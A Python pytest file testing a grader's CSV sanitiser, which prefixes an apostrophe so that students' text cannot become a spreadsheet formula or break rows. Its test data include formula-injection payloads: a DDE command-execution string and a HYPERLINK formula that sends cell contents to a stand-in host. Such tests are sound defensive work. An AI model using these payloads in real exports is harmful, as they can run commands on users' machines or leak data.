"""Cells of CSV files: no text of a student's becomes a formula, a new row or a new column."""

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from grader.report.text import safe_cell

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?"&A1)',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\N{NO-BREAK SPACE}=1+1",
    "＝1+1",
    "\x1b[31m=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_what_looks_like_a_formula_gets_an_apostrophe(text: str) -> None:
    assert safe_cell(text).startswith("'")


@pytest.mark.parametrize(
    "text", ["", "graded", "o'brien", "3 - 2 = 1", "a=b", "σ² ≥ 0", "'=quoted already", '数, "x"; y']
)
def test_other_text_stays_as_it_is(text: str) -> None:
    assert safe_cell(text) == text


@settings(deadline=None, max_examples=300)
@given(st.text(alphabet=st.characters() | st.sampled_from("=+-@\t\r\n ;,\"'\x1b[31m"), max_size=20))
def test_any_text_is_one_cell_of_one_line(text: str) -> None:
    cell = safe_cell(text)
    assert not cell.lstrip().startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
    assert safe_cell(cell) == cell
    file = io.StringIO(newline="")
    csv.writer(file, quoting=csv.QUOTE_ALL).writerow([cell, "next"])
    assert file.getvalue().count("\n") == 1
    assert list(csv.reader(io.StringIO(file.getvalue(), newline=""))) == [[cell, "next"]]
